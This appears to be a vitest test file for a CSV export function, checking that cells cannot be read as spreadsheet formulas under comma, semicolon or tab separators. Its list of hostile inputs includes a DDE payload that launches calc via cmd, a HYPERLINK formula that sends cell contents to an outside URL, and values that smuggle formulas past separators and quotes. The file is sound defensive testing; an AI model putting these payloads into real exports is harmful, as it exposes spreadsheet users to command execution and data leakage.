import { describe, expect, test } from 'vitest';
import { csvFrom } from './csv.ts';

/** Returns the cells that a spreadsheet reads from a file if it splits lines at this separator. */
function opened(csv: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const next = () => {
    rows.at(-1)?.push(cell);
    cell = '';
  };
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv[at] ?? '';
    if (quoted && sign === '"' && csv[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (quoted || (sign !== separator && sign !== '\n' && sign !== '\r')) cell += sign;
    else if (sign === separator) next();
    else if (sign === '\n') {
      next();
      rows.push([]);
    }
  }
  return rows.slice(0, -1);
}

const isFormula = (cell: string) => /^[\s\u200b\ufeff]*[=+\-@＝＋－＠−]/.test(cell);

const hostile = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  '=HYPERLINK("https://example.org?" & A1, "look")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  'quay;=1+1',
  'quay\t=1+1',
  'quay\r\n=1+1',
  'a","=1+1',
  '"a";"=1+1"',
];

describe('a CSV file', () => {
  test.each(hostile)('shows %j as text', (text) => {
    for (const separator of [',', ';', '\t']) {
      const cells = opened(csvFrom([['name'], [text], ['plain', text, 3]]), separator).flat();
      expect(cells.filter(isFormula)).toEqual([]);
    }
  });

  test.each(hostile)('has %j in one cell, with no more than apostrophes added', (text) => {
    const rows = opened(csvFrom([['first', text, 'last']]), ',');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(3);
    expect(rows[0]?.[1]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  test('leaves numbers and ordinary text as they are', () => {
    expect(csvFrom([['The "old" quay, by night', -1, 2.5, null, 'one - two', 'a@b.example', "'tis"]])).toBe(
      `"The ""old"" quay, by night",-1,2.5,,one - two,a@b.example,'tis\r\n`,
    );
  });
});
